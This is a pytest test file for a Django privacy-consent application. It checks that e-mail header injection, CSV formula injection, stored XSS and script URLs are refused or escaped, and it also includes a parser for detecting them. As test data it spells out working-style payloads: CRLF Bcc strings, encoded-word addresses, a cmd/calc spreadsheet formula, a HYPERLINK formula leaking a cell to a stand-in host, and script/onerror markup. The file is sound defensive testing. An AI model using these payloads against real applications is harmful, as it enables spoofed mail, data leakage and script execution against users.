"""Bad input at scale, part one: what a visitor, a partner or a staff member types must never
become a header of an e-mail, a formula in a spreadsheet or markup in a page. Each refusal is
told in the visitor's language and changes nothing."""

from __future__ import annotations

import csv
import email
import io
import itertools
import json
import re
import zipfile
from email import policy
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.db import connection
from django.utils.encoding import punycode

from tests.rights_helpers import ask, code_for, drain_tasks, kari, prove
from tillit.core.mail import MailNotSent, header_safe, send_templated
from tillit.vault.pii import Pii

__all__ = ["kari"]  # a fixture, used by name

# The task worker manages its own connections: outside a test transaction.
pytestmark = pytest.mark.django_db(transaction=True)


# Addresses that try to carry a header of their own, or a second recipient.
INJECTED_ADDRESSES = [
    "kari@example.com\r\nBcc: x@example.invalid",
    "kari@example.com\nBcc: x@example.invalid",
    "kari@example.com\rCc: x@example.invalid",
    "Kari <kari@example.com>",
    "kari@example.com, x@example.invalid",
    "kari@example.com%0d%0aBcc:x@example.invalid",
]
# Valid addresses by the letter of RFC 5322, which Python's e-mail package decodes (RFC 2047)
# into the To header: the first becomes three recipients, the second another address.
ENCODED_WORDS = [
    "=?utf-8?q?x=2C_evil=40example.invalid=2C_y?=@example.com",
    "=?utf-8?b?eEBleGFtcGxlLmludmFsaWQ+?=@example.com",
]
EVERY_BAD_ADDRESS = INJECTED_ADDRESSES + ENCODED_WORDS
ADDRESS_SETS = [
    pytest.param(INJECTED_ADDRESSES, id="line breaks, names, lists"),
    pytest.param(ENCODED_WORDS, id="encoded-words"),
]
BAD_ADDRESS = {
    "": "Dette ser ikke ut som en e-postadresse",
    "/en": "That does not look like an e-mail address",
}
# The headers tillit's e-mails have; anything else got there from outside.
OWN_HEADERS = {"content-type", "content-transfer-encoding", "mime-version", "subject", "from",
               "to", "date", "message-id"}  # fmt: skip


def row_counts() -> dict[str, int]:
    """How many rows each table holds: a refusal must leave every count as it was."""
    counts = {}
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            if table in ("django_session", "core_attempts"):
                # A page view may start a session, and every attempt counts against its rate
                # limit, refused or not: neither is the input kept.
                continue
            cursor.execute(f'SELECT COUNT(*) FROM "{table}"')  # noqa: S608 - our own tables
            counts[table] = cursor.fetchone()[0]
    return counts


def sent_headers() -> list[tuple[list[str], dict[str, str]]]:
    """Every message in the outbox as it would go on the wire: recipients and headers."""
    out = []
    for message in mail.outbox:
        parsed = email.message_from_bytes(message.message().as_bytes(), policy=policy.default)
        out.append((message.recipients(), {k.lower(): str(v) for k, v in parsed.items()}))
    return out


def assert_no_injected_header(expected_to: set[str]) -> None:
    for recipients, headers in sent_headers():
        assert set(headers) <= OWN_HEADERS, headers
        assert len(recipients) == 1 and recipients[0] in expected_to, recipients
        # The header says what the envelope says (a domain in IDNA form is the same domain).
        local, _, domain = recipients[0].rpartition("@")
        assert headers["to"] in (recipients[0], f"{local}@{punycode(domain)}"), headers


def portability_confirm_url(client, lang: str = "") -> str:
    challenge = ask(client, "portability", "kari@example.com", lang=lang)
    prove(client, challenge, code_for("kari@example.com"))
    return f"{lang}/privacy/confirm/{challenge}/"


@pytest.mark.promise("P3")
@pytest.mark.promise("P4")
@pytest.mark.promise("P25")
@pytest.mark.parametrize("addresses", ADDRESS_SETS)
def test_an_address_carrying_a_header_is_refused_everywhere_in_both_languages(
    client, partner, visitor, addresses, settings
):
    """The sign-up form, the contact form and the privacy centre refuse it with the same clear
    words in nb and en, keep nothing, and no e-mail goes anywhere."""
    settings.SIGNUPS_PER_IP_PER_HOUR = settings.CONTACT_MESSAGES_PER_IP_PER_HOUR = 100
    settings.RIGHTS_CODES_PER_IP_PER_HOUR = 100
    before = row_counts()
    for address, (lang, words) in itertools.product(addresses, BAD_ADDRESS.items()):
        forms = {
            "sign-up": (f"{lang}/", {**visitor, "email": address}),
            "contact": (f"{lang}/contact/", {"message": "Hei", "email": address}),
            "privacy centre": (f"{lang}/privacy/", {"kind": "access", "email": address}),
        }
        for form, (path, data) in forms.items():
            answer = client.post(path, data)
            assert answer.status_code == 400, f"{form} {lang or '/'} {address!r}"
            assert words in answer.content.decode(), f"{form} {lang or '/'} {address!r}"
    assert row_counts() == before
    drain_tasks()
    assert mail.outbox == []


@pytest.mark.promise("P28")
@pytest.mark.parametrize("addresses", ADDRESS_SETS)
def test_a_portability_recipient_carrying_a_header_is_refused_in_both_languages(
    client, kari, addresses
):
    for lang, words in BAD_ADDRESS.items():
        url = portability_confirm_url(client, lang)
        before = row_counts()
        for address in addresses:
            answer = client.post(
                url,
                {
                    "recipient_name": "Mottaker AS",
                    "recipient_email": address,
                    "confirm_transfer": "on",
                },
            )
            assert answer.status_code == 400, f"{lang or '/'} {address!r}"
            assert words in answer.content.decode(), f"{lang or '/'} {address!r}"
        assert row_counts() == before


NAME_WITH_LINE_BREAK = "Kari\r\nBcc: x@example.invalid"
CONTROL_CHARACTERS = {"": "Navnet kan ikke inneholde kontrolltegn", "/en": "control characters"}


@pytest.mark.promise("P3")
@pytest.mark.promise("P4")
@pytest.mark.promise("P26")
def test_a_name_with_a_line_break_is_refused_in_both_languages(client, kari, visitor):
    for lang, words in CONTROL_CHARACTERS.items():
        before = row_counts()
        forms = {
            "sign-up": (f"{lang}/", {**visitor, "name": NAME_WITH_LINE_BREAK}),
            "contact": (
                f"{lang}/contact/",
                {"name": NAME_WITH_LINE_BREAK, "email": "ola@example.com", "message": "Hei"},
            ),
        }
        for form, (path, data) in forms.items():
            answer = client.post(path, data)
            assert answer.status_code == 400, f"{form} {lang or '/nb'}: {answer.status_code}"
            assert words in answer.content.decode(), f"{form} {lang or '/nb'}"
        challenge = ask(client, "rectification", "kari@example.com", lang=lang)
        prove(client, challenge, code_for("kari@example.com"))
        before = row_counts()
        url = f"{lang}/privacy/confirm/{challenge}/"
        answer = client.post(url, {"name": NAME_WITH_LINE_BREAK})
        assert answer.status_code == 400 and words in answer.content.decode()
        assert row_counts() == before


@pytest.mark.promise("P28")
def test_a_portability_recipient_name_with_a_line_break_is_refused(client, kari):
    for lang, words in CONTROL_CHARACTERS.items():
        url = portability_confirm_url(client, lang)
        before = row_counts()
        answer = client.post(
            url,
            {
                "recipient_name": NAME_WITH_LINE_BREAK,
                "recipient_email": "mottaker@example.com",
                "confirm_transfer": "on",
            },
        )
        assert answer.status_code == 400 and words in answer.content.decode(), lang
        assert row_counts() == before


@pytest.mark.django_db
@pytest.mark.promise("P10")
@pytest.mark.parametrize("address", EVERY_BAD_ADDRESS)
def test_no_e_mail_is_sent_to_an_address_that_carries_a_header(address):
    """The last line, for an address that got past a form (or was sealed before a form learnt
    to refuse it): the e-mail is not sent, and the error names no address."""
    assert not header_safe(address)
    with pytest.raises(MailNotSent) as refused:
        send_templated("confirm", Pii(address), {"confirm_url": "x", "hours": 48}, "nb")
    assert "example" not in str(refused.value)
    assert mail.outbox == []


@pytest.mark.django_db
@pytest.mark.promise("P10")
@pytest.mark.parametrize(
    "address",
    ["kari@example.com", "o'brien+tillit@example.com", "kari@bücher.example", '"k n"@example.com'],
)
def test_a_plain_address_gets_its_e_mail_with_only_tillits_own_headers(address):
    assert header_safe(address)
    send_templated("confirm", Pii(address), {"confirm_url": "x", "hours": 48}, "en")
    assert_no_injected_header({address})


@pytest.mark.django_db
@pytest.mark.promise("P10")
def test_a_text_e_mail_says_what_was_written_and_its_html_escapes_it():
    """Plain text is not HTML: what the person asked and what support answered arrive as they
    were written in the text part, and escaped in the HTML part."""
    from tillit.contact.models import ContactMessage

    asked, answer = "Is 2 < 3 & 'yes'? <b>O'Brien</b>", 'We "think" so: 3 > 2 & <i>yes</i>.'
    context = {"message": ContactMessage(), "answer": answer, "asked": asked}
    send_templated("contact-reply", Pii("ola@example.com"), context, "en")
    [sent] = mail.outbox
    assert asked in sent.body and answer in sent.body
    html = sent.alternatives[0][0]
    assert asked not in html and answer not in html
    assert "2 &lt; 3 &amp;" in html and "&lt;b&gt;O&#x27;Brien&lt;/b&gt;" in html
    assert not dangers(html)[0]


@pytest.mark.django_db
@pytest.mark.promise("P10")
def test_the_demo_mail_files_carry_no_injected_header(tmp_path, settings):
    settings.MAILERS = {
        "default": {
            "BACKEND": "tillit.core.mail.EmlFileBackend",
            "OPTIONS": {"directory": str(tmp_path)},
        }
    }
    for address in EVERY_BAD_ADDRESS:
        with pytest.raises(MailNotSent):
            send_templated("confirm", Pii(address), {"confirm_url": "x", "hours": 48}, "nb")
    send_templated("confirm", Pii("kari@example.com"), {"confirm_url": "x", "hours": 48}, "nb")
    [written] = tmp_path.glob("*.eml")
    parsed = email.message_from_bytes(written.read_bytes(), policy=policy.default)
    assert {k.lower() for k in parsed} <= OWN_HEADERS and parsed["To"] == "kari@example.com"


@pytest.mark.promise("P3")
@pytest.mark.promise("P4")
@pytest.mark.promise("P28")
def test_every_e_mail_of_every_flow_carries_only_its_own_headers(client, kari, visitor):
    """Sign-up, contact, every privacy-centre e-mail and the portability transfer, driven by
    the real forms: each message goes to one address, and its To header says exactly that."""
    client.post("/", {**visitor, "email": "ny@example.com", "name": "Ny Person"})
    client.post("/", {**visitor, "email": "kari@example.com"})  # "already registered"
    client.post("/en/contact/", {"message": "Hei", "email": "ola@example.com"})
    url = portability_confirm_url(client)
    answer = client.post(
        url,
        {
            "recipient_name": "Mottaker AS",
            "recipient_email": "mottaker@example.com",
            "confirm_transfer": "on",
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:500]
    drain_tasks()
    expected = {"ny@example.com", "kari@example.com", "ola@example.com"}
    assert {m.to[0] for m in mail.outbox} >= expected
    assert_no_injected_header(expected | {"mottaker@example.com"})


# Spreadsheets run a cell that starts with one of these as a formula (OWASP, CSV injection).
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?leak="&A1;"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.django_db
@pytest.mark.promise("P25")
@pytest.mark.promise("P28")
def test_a_formula_is_text_in_the_exports_csv_and_exact_in_its_json():
    from tillit.rights.export import build_zip
    from tillit.rights.models import RightsRequest

    request = RightsRequest.objects.create(kind="access", due_at="2030-01-01T00:00:00Z")
    partners = [
        {"holder": FORMULAS[0], **{f"field{i}": value for i, value in enumerate(FORMULAS)}},
        {"holder": "Broker A", FORMULAS[2]: "=1+1", "name": "Kari Nordmann", "score": -5},
    ]
    archive = zipfile.ZipFile(io.BytesIO(build_zip(request, partners)))
    cells = [c for row in csv.reader(io.StringIO(archive.read("data.csv").decode())) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for formula in FORMULAS:
        assert "'" + formula in cells  # neutralised, not lost
    assert "Kari Nordmann" in cells and "'-5" in cells
    data = json.loads(archive.read("data.json"))
    assert data["held_by_partners"] == partners  # the machine-readable copy is exact


class Dangerous(HTMLParser):
    """What a browser would run or follow in a page: script elements, event-handler
    attributes and javascript: links. Also the page's text and attribute values, decoded, to
    show that a planted value was on the page at all."""

    URL_ATTRS = {"href", "src", "action", "formaction", "data-embed-src", "xlink:href"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        for name, value in attrs:
            value = value or ""
            self.text.append(value)  # a form field's value is shown too
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in self.URL_ATTRS and squeezed.startswith(("javascript:", "vbscript:")):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("img", "svg", "iframe", "object", "embed") and any(
            MARK in (v or "") for _, v in attrs
        ):
            self.found.append(f"<{tag} {attrs!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and MARK in data:
            self.found.append(f"<script>{data[:80]}")
        self.text.append(data)


MARK = "tillit-xss"


def planted(field: str) -> str:
    """Markup that would run if a page put it out unescaped, named for the field it is in."""
    return f'<script>{MARK}:{field}</script>"><img src=x onerror={MARK}:{field}>'


def dangers(html: str) -> tuple[list[str], str]:
    """What in a page would run or be followed, and the page's text (entities decoded)."""
    parser = Dangerous()
    parser.feed(html)
    parser.close()
    raw = [p for p in ("<script>" + MARK, "<img src=x onerror") if p in html]
    return parser.found + raw, " ".join(parser.text)


def crawl(client, seeds: list[str], limit: int = 400) -> dict[str, str]:
    """Every console page reachable from the seeds by its links, once per path (queries are
    followed only where a seed has one), as {url: html}."""
    pages: dict[str, str] = {}
    queue = list(seeds)
    while queue and len(pages) < limit:
        url = queue.pop(0)
        if url in pages:
            continue
        answer = client.get(url)
        if answer.status_code != 200 or "html" not in answer.get("Content-Type", ""):
            pages[url] = ""
            continue
        pages[url] = html = answer.content.decode()
        for href in re.findall(r'href="([^"#]*)', html):
            path = href.split("?")[0]
            if path.startswith("/console/") and "logout" not in path and "/delete/" not in path:
                queue.append(path)
    return pages


def plant_in_the_console(clients: dict[str, object], subject, partner) -> None:
    """Each role writes markup wherever its console lets it write, as staff would."""
    from datetime import timedelta

    from django.utils import timezone

    from tillit.audit.models import record
    from tillit.disclosure.models import DisclosureCase
    from tillit.partners.models import Delivery
    from tillit.rights.models import PartnerTask, RightsRequest
    from tillit.vault.models import Envelope, Purpose

    po, support = clients["privacy_officer"], clients["support"]
    answer = po.post(
        "/console/offers/offer/add/",
        {
            "title_nb": planted("offer-title-nb")[:120],
            "body_nb": planted("offer-body-nb"),
            "title_en": planted("offer-title-en")[:120],
            "body_en": planted("offer-body-en"),
            "valid_until": (timezone.localdate() + timedelta(days=14)).isoformat(),
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    answer = po.post(
        "/console/policy/policyversion/add/",
        {
            "summary_nb": planted("summary-nb"),
            "summary_en": planted("summary-en"),
            "material": "on",
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    answer = support.post(
        "/console/disclosure/disclosurecase/add/",
        {
            "requester_kind": "third_party",
            "requester": planted("requester"),
            "legal_basis": planted("legal-basis"),
            "scope": planted("scope"),
            "subject_ref": str(subject.id),
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    case = DisclosureCase.objects.get()
    url = f"/console/disclosure/disclosurecase/{case.pk}/change/"
    for version, fields in enumerate(
        [
            {"step": "weigh", "balancing": planted("balancing")},
            {"step": "decide", "decision": "disclose", "reason": planted("decision-reason")},
            {"step": "withhold", "prohibition": planted("prohibition")},
        ]
    ):
        po.post(url, {**fields, "version": str(version)})
    case.refresh_from_db()
    assert case.step == "withheld", case.step
    requests = []
    for _ in range(2):
        contact = Envelope.objects.seal({"email": Pii("kari@example.com")}, Purpose.REQUEST)
        requests.append(
            RightsRequest.objects.create(
                kind="access",
                subject=subject,
                contact=contact,
                due_at=timezone.now() + timedelta(days=30),
                state="in_progress",  # as every open request is, once opened (RIGHTS_REQUEST)
            )
        )
    for action, rights_request in zip(("extend_deadline", "refuse_request"), requests, strict=True):
        po.post(
            "/console/rights/rightsrequest/",
            {
                "action": action,
                "_selected_action": [str(rights_request.id)],
                "reason": planted(action),
            },
        )
        PartnerTask.objects.create(
            request=rights_request, partner=partner, last_error=planted("task-error")[:200]
        )
    assert RightsRequest.objects.exclude(extension_reason="").exists()
    assert RightsRequest.objects.exclude(refusal_reason="").exists()
    # What partners say back (a receipt's lead id, an error) and what the code records.
    Delivery.objects.create(
        subject=subject,
        partner=partner,
        partner_reference=planted("partner-reference")[:100],
        last_error=planted("delivery-error")[:200],
    )
    record(
        "planted.event",
        actor=planted("actor")[:80],
        target=planted("target")[:80],
        detail=planted("audit-data"),
    )


def plant_a_partner() -> object:
    """A partner whose every text field carries markup, with values the console's form and
    `tillit partners add` accept (both run the model's validation)."""
    from tests.conftest import make_partner
    from tillit.partners import sandbox

    partner = make_partner(
        slug="xss-broker",
        name=planted("partner-name"),
        privacy_policy_url=f'https://xss.example.com/p?"><script>{MARK}:policy-url</script>',
        embed_url=f'https://xss.example.com/e?"><img/src=x/onerror={MARK}:embed-url>',
        privacy_email="privacy@xss.example.com",
        dpa_reference=planted("dpa-reference"),
        countries=["DK"],
    )
    partner.full_clean(exclude=["secret_envelope"])
    # A conformance report carries what the partner answered: shown on the partner's page.
    failed = {
        "id": planted("conformance-id"), "title": planted("conformance-title"),
        "outcome": "fail", "sent": {"body": planted("conformance-sent")},
        "received": planted("conformance-received"), "required": planted("conformance-required"),
    }  # fmt: skip
    endpoint = f'https://xss.example.com/"><script>{MARK}:conformance-endpoint</script>'
    sandbox.record(partner, {"passed": False, "endpoint": endpoint, "results": [failed]})
    return partner


def plant_a_contact_message(client, support_client) -> None:
    from tillit.contact.models import ContactMessage

    answer = client.post(
        "/en/contact/",
        {
            "name": planted("contact-name"),
            "email": "ola@example.com",
            "message": planted("contact-message") + " javascript:alert(1)",
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    message = ContactMessage.objects.get()
    url = f"/console/contact/contactmessage/{message.id}/change/"
    support_client.get(url)
    support_client.post(url, {"reply": planted("contact-reply"), "version": "0"})


CONSOLE_SEEDS = [
    "/console/",
    "/console/cookie-consent/",
    "/console/audit-verify/",
    "/console/dashboard/",
    f"/console/partners/partner/?q={MARK}",
    f"/console/audit/auditevent/?q={MARK}",
]


@pytest.mark.promise("P21")
@pytest.mark.promise("P22")
@pytest.mark.promise("P10")
def test_markup_planted_anywhere_never_runs_in_any_console_page(
    client, visitor, administrator, privacy_officer, support
):
    """Every field staff can see carries markup; every console page each role can reach is
    opened; no script, event handler or javascript: link comes out of the planted data, and
    each planted value is shown (escaped) to some role, so the check is not vacuous."""
    from django.contrib import admin
    from django.contrib.auth import get_user_model
    from django.test import Client

    from tests.conftest import sign_in
    from tillit.subjects.models import Subject

    partner = plant_a_partner()
    answer = client.post("/", {**visitor, "country": "DK", "phone": ""})
    assert answer.status_code == 302
    subject = Subject.objects.get()
    users = {"administrator": administrator, "privacy_officer": privacy_officer, "support": support}
    # An administrator may write a staff member's name (the username is letters and digits).
    get_user_model().objects.filter(pk=support.pk).update(
        first_name=planted("first-name")[:150], last_name=planted("last-name")[:150]
    )
    clients = {}
    for role, user in users.items():
        clients[role] = Client()
        sign_in(clients[role], user)
    plant_a_contact_message(client, clients["support"])
    plant_in_the_console(clients, subject, partner)
    seeds = CONSOLE_SEEDS + [
        f"/console/{m._meta.app_label}/{m._meta.model_name}/" for m in admin.site._registry
    ]
    problems, shown = [], ""
    for role, staff_client in clients.items():
        staff_client.post(  # an action's own page, with the partners' names in it
            "/console/partners/partner/",
            {"action": "rotate_secret", "_selected_action": [str(partner.pk)]},
        )
        pages = crawl(staff_client, seeds)
        assert sum(bool(html) for html in pages.values()) > 10, role
        for url, html in pages.items():
            found, text = dangers(html)
            problems += [f"{role} {url}: {f}" for f in found]
            shown += text
    fields = [
        "partner-name", "dpa-reference", "offer-title-nb", "offer-body-nb", "offer-title-en",
        "offer-body-en", "summary-nb", "summary-en", "requester", "legal-basis", "scope",
        "balancing", "decision-reason", "prohibition", "extend_deadline", "refuse_request",
        "task-error", "partner-reference", "delivery-error", "actor", "target", "audit-data",
        "first-name", "last-name", "contact-name", "contact-message", "contact-reply",
        "policy-url", "conformance-id", "conformance-title", "conformance-sent",
        "conformance-received", "conformance-required", "conformance-endpoint",
    ]  # fmt: skip
    assert not problems, "\n".join(problems)
    unseen = [f for f in fields if f"{MARK}:{f}" not in shown]
    assert not unseen, f"planted but never shown, so never checked: {unseen}"


@pytest.mark.promise("P10")
@pytest.mark.promise("P28")
def test_markup_in_what_staff_and_partners_write_never_runs_in_an_e_mail(
    client, visitor, administrator, privacy_officer, support
):
    """The reasons staff give, support's answers, the person's own words and a portability
    recipient's name reach people in HTML e-mails: escaped, every one."""
    from django.test import Client

    from tests.conftest import sign_in
    from tillit.subjects.models import Subject

    partner = plant_a_partner()
    client.post("/", {**visitor, "country": "DK", "phone": ""})
    subject = Subject.objects.get()
    clients = {}
    for role, user in (("privacy_officer", privacy_officer), ("support", support)):
        clients[role] = Client()
        sign_in(clients[role], user)
    plant_a_contact_message(client, clients["support"])
    plant_in_the_console(clients, subject, partner)
    drain_tasks()
    problems, shown = [], ""
    for message in mail.outbox:
        for body, kind in [(message.body, "text/plain"), *message.alternatives]:
            if kind == "text/html":
                found, text = dangers(body)
                problems += [f"{message.subject}: {f}" for f in found]
                shown += text
    assert not problems, "\n".join(problems)
    for field in ("extend_deadline", "refuse_request", "contact-reply", "contact-message"):
        assert f"{MARK}:{field}" in shown, field


@pytest.mark.promise("P19")
@pytest.mark.promise("P34")
def test_markup_from_a_partner_or_a_policy_summary_never_runs_in_a_public_page(client, visitor):
    """The partner's name, privacy policy and embed on the welcome page, the receipt, the
    policy and its changes, the cookie settings; the summaries of what changed, also in the
    notice a returning visitor gets."""
    from tillit.policy import versions
    from tillit.subjects.confirmation import confirmation_token
    from tillit.subjects.models import Subject

    versions.publish("Første versjon.", "First version.", "staff:1", True)
    plant_a_partner()
    versions.publish(planted("summary-nb"), planted("summary-en"), "staff:1", True)
    assert client.post("/", {**visitor, "country": "DK", "phone": ""}).status_code == 302
    welcome = client.post(f"/confirm/{confirmation_token(Subject.objects.get())}/")
    assert welcome.status_code == 200
    pages = {"welcome": welcome.content.decode()}
    receipt = re.search(r'href="(/receipt/[0-9a-f-]+/)"', pages["welcome"]).group(1)
    urls = [receipt, "/", "/en/", "/personvern/", "/en/personvern/", "/personvern/v/2/",
            "/personvern/endringer/", "/en/personvern/endringer/", "/cookies/", "/en/cookies/",
            "/privacy/", "/contact/"]  # fmt: skip
    for url in urls:
        answer = client.get(url)
        assert answer.status_code == 200, url
        pages[url] = answer.content.decode()
    for lang in ("", "/en"):
        client.cookies["tillit_policy_seen"] = "0"  # a returning visitor, told what changed
        pages[f"{lang}/ (returning)"] = client.get(f"{lang}/").content.decode()
    problems, shown = [], ""
    for url, html in pages.items():
        found, text = dangers(html)
        problems += [f"{url}: {f}" for f in found]
        shown += text
    assert not problems, "\n".join(problems)
    for field in ("partner-name", "policy-url", "embed-url", "summary-nb", "summary-en"):
        assert f"{MARK}:{field}" in shown, field
    assert f"{MARK}:summary-en" in dangers(pages["/en/ (returning)"])[1]


NOT_WEB_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://broker.example.com/\r\nX-Injected: 1",
    "https://broker.example.com/ onmouseover=alert(1)",
]


@pytest.mark.django_db
@pytest.mark.promise("P18")
@pytest.mark.promise("P19")
def test_a_partner_url_that_is_not_a_web_address_is_refused():
    """The console's partner form and `tillit partners add` both run the model's validation:
    a script or a header can never be a partner's address, its privacy policy or its embed."""
    from django.core.exceptions import ValidationError

    from tillit.partners.models import Partner

    accepted = []
    for field in ("privacy_policy_url", "endpoint", "embed_url"):
        for url in NOT_WEB_ADDRESSES:
            partner = Partner(
                slug="b",
                name="B",
                privacy_policy_url="https://b.example.com/privacy",
                endpoint="https://b.example.com",
                countries=["NO"],
            )
            setattr(partner, field, url)
            try:
                partner.full_clean(exclude=["secret_envelope"])
            except ValidationError as refused:
                if field in refused.message_dict:
                    continue
            accepted.append(f"{field}={url!r}")
    assert not accepted, accepted


class FormValues(HTMLParser):
    """A page's form as a browser would send it unchanged: inputs, checked boxes, text areas
    and chosen options."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.values: dict[str, str] = {}
        self._textarea: str | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        name = a.get("name", "")
        if tag == "input" and name and a.get("type") not in ("submit", "button", "file"):
            if a.get("type") not in ("checkbox", "radio") or "checked" in a:
                self.values[name] = a.get("value", "")
        elif tag == "textarea":
            self._textarea = name
            self.values[name] = ""
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and "selected" in a:
            self.values[self._select] = a.get("value", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "textarea" and self._textarea:
            # A browser drops the newline that opens a text area; Python's parser keeps it.
            self.values[self._textarea] = self.values[self._textarea].removeprefix("\n")
            self._textarea = None
        elif tag == "select":
            self._select = None

    def handle_data(self, data: str) -> None:
        if self._textarea:
            self.values[self._textarea] += data


@pytest.mark.django_db
@pytest.mark.promise("P18")
def test_the_console_refuses_a_partner_privacy_contact_that_carries_a_header(
    client, administrator, partner
):
    """Rights requests go to a partner's privacy contact by e-mail; the console takes only one
    plain address for it, and says so."""
    from tests.conftest import sign_in

    sign_in(client, administrator)
    url = f"/console/partners/partner/{partner.pk}/change/"
    form = FormValues()
    form.feed(client.get(url).content.decode())
    unchanged = client.post(url, {**form.values, "privacy_email": "privacy@example.com"})
    assert unchanged.status_code == 302, unchanged.content.decode()[:3000]  # the form works
    for address in EVERY_BAD_ADDRESS:
        answer = client.post(url, {**form.values, "privacy_email": address})
        assert answer.status_code == 200, address
        html = answer.content.decode()
        assert re.search(r"Enter (a valid email|one plain e-mail) address", html), address
    partner.refresh_from_db()
    assert partner.privacy_email == "privacy@example.com"


@pytest.mark.promise("P18")
@pytest.mark.parametrize("address", ENCODED_WORDS)
def test_the_partners_command_refuses_a_privacy_contact_that_carries_a_header(db, address):
    from django.core.management import CommandError, call_command

    from tillit.partners.models import Partner

    with pytest.raises(CommandError, match="one plain e-mail address"):
        call_command(
            "partners", "add", "stille", "--name", "Stille Megler AS",
            "--endpoint", "https://stille.example.com", "--privacy-url",
            "https://stille.example.com/privacy", "--countries", "NO", "--no-rights-api",
            "--privacy-email", address,
        )  # fmt: skip
    assert not Partner.objects.filter(slug="stille").exists()
